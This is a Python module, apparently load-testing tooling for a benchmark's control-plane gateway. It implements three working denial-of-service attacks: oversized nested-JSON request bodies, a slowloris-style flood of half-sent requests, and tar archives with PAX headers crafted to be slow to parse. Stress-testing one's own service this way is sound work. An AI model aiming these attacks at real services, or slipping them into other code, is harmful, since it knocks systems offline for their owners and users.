"""Attacks on a gateway, each in a process of its own that runs until it is killed.

`python -m arl_bench.control_plane.attack_load ATTACK ADDRESS [KEY ENVIRONMENT]`. Only `archives` needs a key.
"""

import gzip
import http.client
import io
import os
import resource
import socket
import sys
import tarfile
import threading
from collections.abc import Callable
from contextlib import suppress

__all__ = ["ATTACKS"]

BODY_BYTES = 24 << 20
BODY_CLIENTS = 4
CONNECTIONS = 4000
ARCHIVE_CLIENTS = 4
HEADER_BYTES = 512 << 10
TIMEOUT_S = 30.0


def send_bodies(address: str) -> None:
    """Send large bodies of nested lists without a key, on several connections."""
    body = b"[" * (BODY_BYTES // 2) + b"]" * (BODY_BYTES // 2)
    _repeat(BODY_CLIENTS, lambda: _post(address, body))


def hold_connections(address: str) -> None:
    """Send half of a request on thousands of connections. Open those again that are closed."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, CONNECTIONS + 100)), hard))
    connections: list[socket.socket] = []
    while True:
        with suppress(OSError):
            connections.append(_half_a_request(address))
        if len(connections) > CONNECTIONS:
            connections.pop(0).close()


def upload_archives(address: str, key: str, environment: str) -> None:
    """Upload small archives whose headers are slow to parse for a parser that scans to their end for each record."""
    content = _slow_archive()
    path, headers = f"/v1/environments/{environment}/archive", {"Authorization": f"Bearer {key}"}
    _repeat(ARCHIVE_CLIENTS, lambda: _request(address, "PUT", path, content, headers))


ATTACKS: dict[str, Callable[..., None]] = {
    "bodies": send_bodies,
    "connections": hold_connections,
    "archives": upload_archives,
}


def _post(address: str, body: bytes) -> None:
    _request(address, "POST", "/v1/actions", body, {"Content-Type": "application/json"})


def _request(address: str, method: str, path: str, body: bytes, headers: dict[str, str]) -> None:
    connection = http.client.HTTPConnection(address, timeout=TIMEOUT_S)
    try:
        connection.request(method, path, body, headers)
        connection.getresponse().read()
    finally:
        connection.close()


def _half_a_request(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host, int(port)), TIMEOUT_S)
    connection.sendall(b"POST /v1/actions HTTP/1.1\r\nHost: x\r\nX-Slow: ")
    return connection


def _slow_archive() -> bytes:
    record = b"4 a\n"
    content = record * (HEADER_BYTES // len(record)) + b"11 end=yes\n"
    header = tarfile.TarInfo("x")
    header.type, header.size = tarfile.XHDTYPE, len(content)
    with io.BytesIO() as target, tarfile.open(fileobj=target, mode="w") as archive:
        archive.addfile(header, io.BytesIO(content))
        archive.addfile(tarfile.TarInfo("file"))
        archive.close()
        return gzip.compress(target.getvalue())


def _repeat(threads: int, work: Callable[[], None]) -> None:
    def run() -> None:
        while True:
            with suppress(OSError, http.client.HTTPException):
                work()

    running = [threading.Thread(target=run, daemon=True) for _ in range(threads)]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join()


if __name__ == "__main__":
    os.nice(19)  # attackers are other machines; their own work must not slow this one
    ATTACKS[sys.argv[1]](*sys.argv[2:])
